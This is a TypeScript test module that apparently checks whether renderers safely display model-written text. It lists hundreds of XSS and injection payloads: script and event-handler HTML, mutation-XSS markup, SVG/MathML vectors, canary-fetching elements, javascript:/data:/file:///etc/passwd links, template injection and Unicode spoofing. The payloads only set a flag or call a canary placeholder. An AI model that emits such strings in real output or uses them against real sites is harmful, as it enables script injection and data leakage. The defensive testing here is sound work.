/** What has run script, fetched something or led away in some renderer, as a model would write it. {C} is the canary's address, {H} its host and port. */
const hit = 'window.hit=1'

/** Raw HTML that runs script (OWASP's list and its kin). */
const script = [
  `<script>${hit}</script>`, `<script src="{C}/script"></script>`, `<SCRIPT SRC={C}/script></SCRIPT>`, `<scr<script>ipt>${hit}</scr</script>ipt>`, `<script/x>${hit}</script>`, `<script\n>${hit}</script\n>`, `<script>/*</script><script>*/${hit}</script>`,
  `<img src=x onerror=${hit}>`, `<img src=x onerror="${hit}"//`, `<IMG """><SCRIPT>${hit}</SCRIPT>">`, `<img/src=x/onerror=${hit}>`, `<img src=x:alert onerror=eval(src)>`, `<img src=\`x\` onerror=\`${hit}\`>`, `<img onmouseover=${hit}>`,
  `<body onload=${hit}>`, `<body background="{C}/body">`, `<body onpageshow=${hit}>`, `<input autofocus onfocus=${hit}>`, `<select autofocus onfocus=${hit}>`, `<textarea autofocus onfocus=${hit}>`, `<details open ontoggle=${hit}>x</details>`,
  `<marquee onstart=${hit}>x</marquee>`, `<video src=x onerror=${hit}>`, `<video><source onerror=${hit}></video>`, `<audio src=x onerror=${hit}>`, `<object data="javascript:${hit}">`, `<object data="data:text/html,<script>parent.hit=1</script>">`, `<embed src="javascript:${hit}">`,
  `<iframe src="javascript:parent.hit=1"></iframe>`, `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=parent.hit=1&gt;">`, `<iframe onload=${hit}>`, `<frameset onload=${hit}>`, `<isindex type=image src=1 onerror=${hit}>`,
  `<a href="javascript:${hit}">x</a>`, `<form action="javascript:${hit}"><button>x</button></form>`, `<button formaction="javascript:${hit}">x</button>`, `<div onclick=${hit} style="position:fixed;inset:0">x</div>`, `<div style="width:expression(${hit})">`, `<x onclick=${hit}>click`, `<custom-tag onpointerenter=${hit}>x</custom-tag>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${hit}>x</b>`, `<div popover onbeforetoggle=${hit}>x</div>`, `<portal src="{C}/portal">`, `<template shadowrootmode=open><script>${hit}</script></template>`, `<slot onslotchange=${hit}>`, `<dialog open onclose=${hit}><form method=dialog><button autofocus>x`,
  `"><script>${hit}</script>`, `';${hit};//`, `--><script>${hit}</script>`, `]]><script>${hit}</script>`, `</textarea><script>${hit}</script>`, `</title><script>${hit}</script>`, `</style><script>${hit}</script>`, `<<script>${hit}//<</script>`, `<\u0000script>${hit}</script>`, `<img src=x onerror\u000b=${hit}>`,
]

/** Markup that becomes something else when it is parsed again. */
const mutation = [
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`, `<svg></p><style><a id="</style><img src=1 onerror=${hit}>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<listing>&lt;img src=x onerror=${hit}&gt;</listing>`, `<xmp><img src=x onerror=${hit}></xmp>`, `<plaintext><img src=x onerror=${hit}>`, `<!--><img src=x onerror=${hit}>-->`, `<!-- --!><img src=x onerror=${hit}> -->`, `<![CDATA[<img src=x onerror=${hit}>]]>`, `<?xml version="1.0"?><img src=x onerror=${hit}>`, `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${hit}>">]>&x;`,
  `<a title="<!--" href="-->"><img src=x onerror=${hit}>`, `<template><img src=x onerror=${hit}></template>`, `<select><style></select><img src=x onerror=${hit}></style>`, `<img alt="\`><img src=x onerror=${hit}>\`">`,
]

const vector = [
  `<svg onload=${hit}>`, `<svg/onload=${hit}>`, `<svg><script>${hit}</script></svg>`, `<svg><script href="{C}/svgscript"/></svg>`, `<svg><image href="{C}/svgimage"/></svg>`, `<svg><use href="{C}/use#x"/></svg>`, `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${hit}"/></svg>`, `<svg><foreignObject><iframe src="{C}/foreign"></iframe></foreignObject></svg>`, `<svg><feImage href="{C}/feimage"/></svg>`, `<svg><style>@import '{C}/svgstyle'</style></svg>`, `<svg><discard onbegin=${hit}>`,
  `<math href="javascript:${hit}">x</math>`, `<math><maction actiontype="statusline#{C}" xlink:href="javascript:${hit}">x</maction></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${hit}></annotation-xml></math>`, `<math><mi//xlink:href="data:x,<script>${hit}</script>">`,
]

/** Elements that fetch or lead away by themselves. */
const fetching = [
  '<img src="{C}/img">', '<img srcset="{C}/srcset 1x">', '<picture><source srcset="{C}/source"><img></picture>', '<input type=image src="{C}/input">', '<video poster="{C}/poster"></video>', '<video src="{C}/video" autoplay>', '<audio src="{C}/audio" autoplay>', '<track src="{C}/track">',
  '<iframe src="{C}/iframe"></iframe>', '<object data="{C}/object"></object>', '<embed src="{C}/embed">', '<link rel=stylesheet href="{C}/css">', '<link rel=prefetch href="{C}/prefetch">', '<link rel=preconnect href="{C}">', '<link rel=icon href="{C}/icon">', '<link rel=manifest href="{C}/manifest">', '<link rel=modulepreload href="{C}/module">',
  '<base href="{C}/base/">', '<meta http-equiv="refresh" content="0;url={C}/refresh">', '<meta http-equiv=refresh content="0; url=javascript:window.hit=1">', '<a href="#" ping="{C}/ping">x</a>', '<form action="{C}/form"><input name=q value=1><button>x</button></form>', '<table background="{C}/table"><td background="{C}/td">x</table>',
  '<style>body{background:url({C}/style)}</style>', '<style>@import "{C}/import";</style>', '<style>@font-face{font-family:x;src:url({C}/font)}*{font-family:x}</style>', '<div style="background:url({C}/attr)">x</div>', '<div style="background:\\75rl({C}/escaped)">x</div>', '<p style="list-style:url({C}/list);cursor:url({C}/cursor),auto">x</p>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{C}/speculation"]}]}</script>',
]

/** Links whose address is not what it seems. */
const schemes = [
  `[x](javascript:${hit})`, `[x](JaVaScRiPt:${hit})`, `[x](&#106;avascript:${hit})`, `[x](&#x6A;avascript:${hit})`, `[x](java&#10;script:${hit})`, `[x](java&Tab;script:${hit})`, `[x](java&NewLine;script:${hit})`, `[x](<java\tscript:${hit}>)`, `[x](\u0001javascript:${hit})`, `[x](javascript&colon;${hit})`, `[x](javascript&#58;${hit})`,
  `[x](javascript://%0a${hit})`, `[x](data:text/html,<script>${hit}</script>)`, '[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)', '[x](vbscript:msgbox(1))', '[x](file:///etc/passwd)', '[x](smb://host/share)', '[x](\\\\host\\share)', '[x](ms-msdt:/id)', '[x](calculator://)', '[x](blob:https://a.test/1)', '[x](view-source:https://a.test)', '[x](//{H}/relative)', '[x](/session/code)', '[x](#/keys)', '[x](http://{H}/plain)', '[x](https:/\\{H}/slashes)',
  `<javascript:${hit}>`, `<data:text/html,x>`, `<https://user:pass@{H}/>`, '<//{H}/>', `[x]: javascript:${hit}\n\n[x]`, `[a][b]\n\n[b]: <javascript:${hit}>`, `[x]:\njavascript:${hit}\n\n[x][]`, `[^1]\n\n[^1]: <img src=x onerror=${hit}>`, `[x](<javascript:${hit}> "title")`, `[x](https://a.test "onmouseover=${hit}")`, `[x](https://a.test '"><img src=x onerror=${hit}>')`, `[<img src=x onerror=${hit}>](https://a.test)`, `[x](https://a.test"onclick="${hit})`, `[x](https://a.test/\`onclick=${hit})`,
  '![x]({C}/image)', '![x][i]\n\n[i]: {C}/reference', '![x](<{C}/angle> "t")', `![x](javascript:${hit})`, `![a]("onerror="${hit})`, `![x](x"onerror="${hit})`, '![![x]({C}/inner)]({C}/outer)', '[![x]({C}/linked)](https://a.test)', '![x](data:image/svg+xml,<svg onload=window.hit=1>)', '![x](//{H}/scheme-relative)', 'www.{H}', 'mailto:a@b.test?attach=/etc/passwd', 'ftp://{H}/x', 'https://a.test/"onmouseover="window.hit=1', 'https://a.test/<script>window.hit=1</script>',
]

/** Places where text meets markup of another kind. */
const places = [
  `\`<img src=x onerror=${hit}>\``, `\`\`\`html\n<script>${hit}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${hit}>\nx\n\`\`\``, `~~~js" onclick="${hit}\nx\n~~~`, `    <script>${hit}</script>`, `| <img src=x onerror=${hit}> |\n|---|\n| <script>${hit}</script> |`, `|a|\n|:-" onclick="${hit}"-:|\n|b|`, `> <img src=x onerror=${hit}>`, `- <script>${hit}</script>`, `- [x] <img src=x onerror=${hit}>`, `# <img src=x onerror=${hit}>`, `1. <svg onload=${hit}>`, `**<img src=x onerror=${hit}>**`, `~~<img src=x onerror=${hit}>~~`,
  `Title <b onclick=${hit}>\n===`, `&lt;script&gt;${hit}&lt;/script&gt;`, `&#60;img src=x onerror=${hit}&#62;`, `\\<script>${hit}\\</script>`, `a<br onload=${hit}>b`, `{{constructor.constructor('${hit}')()}}`, `\${${hit}}`, `#{${hit}}`, `<%= ${hit} %>`, `{% raw %}<img src=x onerror=${hit}>`, `$$\\href{javascript:${hit}}{x}$$`, `:::html\n<script>${hit}</script>\n:::`, `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${hit}>"]\n\`\`\``, `<kbd onclick=${hit}>x</kbd>`, `__proto__`, `[constructor][__proto__]\n\n[__proto__]: {C}/proto`,
]

/** Letters that change how the rest is read. */
const letters = [
  '\u202egpj.exe\u202c', '[\u202emoc.elpmaxe](https://a.test)', '\u2066\u202e[x](https://a.test)', `<\u200bscript>${hit}</script>`, `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`, `<ſcript>${hit}</ſcript>`, `<img src=x on\u0435rror=${hit}>`, '\ufeff<img src={C}/bom>', `\u2028<script>${hit}</script>\u2029`, '[x](https://\u0430pple.com)', `<a href="java\u00adscript:${hit}">x</a>`, `\u001b]8;;{C}/terminal\u0007x\u001b]8;;\u0007`, '\ud83d\ude00<img src={C}/emoji>',
]

export const payloads: readonly string[] = [...script, ...mutation, ...vector, ...fetching, ...schemes, ...places, ...letters]

export function payloadsFor(canary: string): readonly string[] {
  return payloads.map((payload) => payload.replaceAll('{C}', canary).replaceAll('{H}', new URL(canary).host))
}
